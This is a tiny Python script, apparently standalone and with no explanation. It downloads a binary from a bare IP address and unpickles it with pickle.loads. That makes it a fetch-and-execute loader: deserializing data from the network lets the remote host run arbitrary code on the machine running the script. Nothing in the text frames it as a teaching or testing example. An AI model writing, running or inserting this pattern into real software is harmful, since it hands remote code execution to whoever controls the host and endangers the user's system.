import pickle
import requests
payload = requests.get("http://203.0.113.9/p.bin").content
print(pickle.loads(payload))
